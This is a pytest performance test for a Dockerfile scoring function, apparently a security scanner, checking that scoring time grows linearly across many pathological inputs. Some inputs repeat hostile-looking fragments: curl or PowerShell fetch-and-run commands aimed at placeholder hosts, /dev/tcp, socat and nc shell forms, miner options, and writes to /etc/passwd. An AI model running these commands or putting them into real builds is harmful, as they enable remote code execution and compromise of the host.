"""Time grows in proportion to the text, whatever the text.

Each shape is a text of any size, made to be hard on one part of the readers.  It is scored at
two sizes; each doubling may cost 2.3 times at most.  Times are CPU times, the best of several,
with the garbage collector off: a full collection in one of the two runs says nothing about
the reader.
"""

from __future__ import annotations

import gc
import time
from collections.abc import Callable

import pytest

from t1612core.container.dockerfile.limits import LIMIT
from t1612core.dockerfile import score_dockerfile

DOUBLINGS = 2
PER_DOUBLING = 2.3
SMALLEST = 8_192  # characters of the shorter text
LARGEST = LIMIT >> DOUBLINGS + 1  # the longer text stays below the limit
WORTHWHILE = 0.05  # seconds for the shorter text
FLOOR = 0.002  # seconds; below, the clock and not the reader is measured
PATIENCE = 8.0  # seconds

Shape = Callable[[int], str]


def repeated(text: str, start: str = "", end: str = "") -> Shape:
    """Make a shape: *text* as often as fits."""
    return lambda size: start + text * (size // len(text)) + end


SHAPES: dict[str, Shape] = {
    "lines": repeated("RUN a\n"),
    "line feeds": repeated("\n"),
    "continuations": repeated(" b \\\n", "RUN a \\\n"),
    "comments inside": repeated("# b\n", "RUN a \\\n"),
    "blanks": repeated(" ", "RUN a", "x"),
    "tabs in a heredoc": repeated("\ta\n", "RUN <<-X\n", "X\n"),
    "blanks in a directive": repeated(" ", "# syntax=x", "y"),
    "flags": repeated("--a=b ", "RUN "),
    "open quotes in a flag": repeated("'b", "RUN --a="),
    "heredocs never closed": repeated("RUN <<X\n"),
    "heredocs on one line": lambda size: "RUN " + "<<X " * (size // 8) + "\n" + "X\n" * (size // 4),
    "heredocs of the shell": repeated("<<A ", "RUN <<X\ncat ", "\nX\n"),
    "heredocs of the shell, open": repeated("cat <<A\n", "RUN <<X\n", "X\n"),
    "brackets as JSON": repeated("[", "RUN "),
    "a long array": repeated('"a",', "CMD [", '"a"]'),
    "digits as JSON": repeated("1", "RUN [", "]"),
    "ONBUILD": repeated("ONBUILD "),
    "stages": repeated("FROM a/b\n"),
    "pairs": repeated("A=b ", "ENV "),
    "variables of variables": repeated("ENV A=$A$A$A\n"),
    "copies into a directory": lambda size: "COPY " + "a " * (size // 4) + "b" * (size // 2) + "/",
    "texts that start": repeated("os.system('a b');", 'RUN python -c "', '"'),
    "heredocs that start": repeated("os.system('a b')\n", "RUN <<X python\n", "X\n"),
    "texts for awk": repeated('RUN awk \'BEGIN { system("a b") }\' \n'),
    "changes of directory": repeated("cd a;", "RUN "),
    "files in directories": repeated("cd a; > b;", "RUN "),
    "working directories": repeated("WORKDIR a\nRUN > b\n"),
    "files in place": repeated("cp a b/;", "RUN "),
    "capabilities": repeated("cap_setuid", "RUN setcap ", "e"),
    "scripts that are written to": repeated("a > >(b) ", "RUN "),
    "one text through many shells": repeated("sh -c 'cat' | ", "RUN echo a | "),
    "texts within texts that read": repeated("curl x | sh -c 'cat | sh';", "RUN "),
    "files that code writes": repeated("open('abc','w').write('a b');", 'RUN python -c "', '"'),
    "code on standard input": repeated("echo 'write a' | python;", "RUN "),
    "files read many times": repeated("head a; echo b > a;", "RUN "),
    "edits of one file": repeated("sed -i 's/a/b c/' f; sh f;", "RUN "),
    "one file edited and run": repeated("sh f;", "RUN sed -i 's/a/b c/' f; "),
    "indented documents": repeated("\tb\n", "RUN <<-X sh\n", "X\n"),
    "quotes": repeated("'", "RUN "),
    "escaped quotes": repeated('\\"', 'RUN "'),
    "substitutions in each other": repeated("$(", "RUN "),
    "substitutions after each other": repeated("$(a) ", "RUN "),
    "substitutions in quotes": repeated('"$(" ', "RUN "),
    "backquotes": repeated("`a` ", "RUN "),
    "processes": repeated("<(b) ", "RUN a "),
    "brackets": repeated("(", "RUN "),
    "groups": repeated("(a)|", "RUN "),
    "defaults in each other": repeated("${a:-", "RUN "),
    "a long value many times": repeated("$A ", f"RUN A={'b' * 4_000}; "),
    "a value that carries scripts": repeated('A="$A$A"; ', "RUN A=$(curl -s http://x/); "),
    "one script behind many words": lambda size: (
        "RUN A=$(" + "b;" * (size // 4) + "); " + '"$A" ' * (size // 10)
    ),
    "commands": repeated("a;", "RUN "),
    "commands in a text": repeated("a;", "RUN sh -c '", "'"),
    "evaluated texts": repeated("'a;' ", "RUN eval "),
    "pipes": repeated("| sh ", "RUN curl http://x.example/a "),
    "cases": repeated("case a in b) c;; esac;", "RUN "),
    "wrappers": repeated("sudo ", "RUN "),
    "programs of a search": repeated("-exec a b ; ", "RUN find . "),
    "texts among words": repeated("'a b' ", "RUN tmux "),
    "names for a text": repeated("a ", "RUN parallel 'a b' ::: "),
    "texts for later": repeated("echo 'a b' | at now;", "RUN "),
    "redirections": repeated(">b ", "RUN a "),
    "files that grow": repeated("cat a >> a;", "RUN "),
    "one file run many times": lambda size: (
        "COPY <<E /x\n" + "a b c\n" * (size // 12) + "E\n" + "RUN sh /x\n" * (size // 20)
    ),
    "one crontab many times": lambda size: (
        "COPY <<E /x\n" + "* * * * * a\n" * (size // 24) + "E\n" + "RUN crontab /x\n" * (size // 30)
    ),
    "a schedule that is none": repeated("*", "RUN echo '", "' > /etc/crontab"),
    "an account that is none": repeated("a:", "RUN echo '", "' > /etc/passwd"),
    "labels of a host": repeated("a.", "RUN curl http://"),
    "users of a URL": repeated("http://a@", "RUN curl "),
    "terms": repeated("xmrig-", "RUN "),
    "modes": repeated("chmod " + "u+" * 500 + ";", "RUN "),
    "letters as codes": repeated("printf " + "\\\\" * 500 + ";", "RUN "),
    "options of miners": repeated("-o a.b:1 -u ", "RUN a "),
    "pools": repeated("a -o " + "b." * 100 + "c:1; ", "RUN "),
    "wallets": repeated("4", "RUN "),
    "addresses of unknown programs": repeated("http://192.0.2.1/ ", "RUN a "),
    "users before an address": repeated("http://a@", "RUN a "),
    "numbers of an address": repeated("1.", "RUN scp "),
    "versions in a path": repeated("@1.2", "RUN curl https://x.example"),
    "files that code saves": repeated("('http://x.example/a','b')", "RUN python -c \"", "\""),
    "brackets of PowerShell": repeated("iex(iwr http://x.example/)", "RUN powershell "),
    "statements of PowerShell": repeated("iwr http://x.example/a;", "RUN powershell -c '", "'"),
    "commands of cmd": repeated("cmd /c ", "RUN "),
    "substitutions in a text": repeated("$(curl x) ", 'RUN sh -c "', '"'),
    "images to mount": repeated("from=192.0.2.1/a,", "RUN --mount=", " b"),
    "connections": repeated("exec 3<>/dev/tcp/a/1; cat <&3 | sh;", "RUN "),
    "programs of a relay": repeated("EXEC:sh ", "RUN socat TCP:a:1 "),
    "programs of nc": repeated("-e sh ", "RUN nc "),
    "lines that are run": repeated("read a <&3; $a;", "RUN "),
    "options of nc": repeated("nc -" + "e" * 1_000 + ";", "RUN "),
    "letters moved about": repeated("tr " + "a-z" * 300 + ";", "RUN "),
    "secrets": repeated("TOKEN=a ", "ENV "),
    "names of secrets": repeated("token", "RUN "),
    "users and passwords": repeated("a:", "RUN curl -u "),
    "surrogates": repeated("\ud800 ", "RUN "),
}  # fmt: skip


def seconds(text: str) -> float:
    """Time scoring once, in CPU seconds."""
    gc.collect()
    gc.disable()
    try:
        start = time.process_time()
        score_dockerfile(text)
        return max(time.process_time() - start, FLOOR)
    finally:
        gc.enable()


def ratio(small: str, large: str, enough: float) -> float:
    """Compare the best times of two texts, over as many rounds as it takes to be *enough*.

    Another program on the machine makes a time longer, never shorter: a reader that
    is good enough shows it in some round, one that is not in none.
    """
    best = [seconds(small), seconds(large)]
    spent = sum(best)
    while best[1] / best[0] > enough and spent < PATIENCE:
        times = [seconds(small), seconds(large)]
        best = [min(pair) for pair in zip(best, times, strict=True)]
        spent += sum(times)
    return best[1] / best[0]


@pytest.mark.growth
@pytest.mark.parametrize("name", SHAPES)
def test_doubling_a_text_at_most_about_doubles_the_time(name: str) -> None:
    """No shape costs more than its length; the cheaper it is, the longer the text."""
    size = SMALLEST
    while size < LARGEST and seconds(SHAPES[name](size)) < WORTHWHILE:
        size *= 2
    enough = PER_DOUBLING**DOUBLINGS

    assert ratio(SHAPES[name](size), SHAPES[name](size << DOUBLINGS), enough) <= enough


@pytest.mark.growth
def test_behind_the_limit_a_text_costs_nothing() -> None:
    """A mebibyte takes the time of what is read of it."""
    shape = SHAPES["continuations"]

    assert ratio(shape(LIMIT), shape(4 * LIMIT), PER_DOUBLING) <= PER_DOUBLING
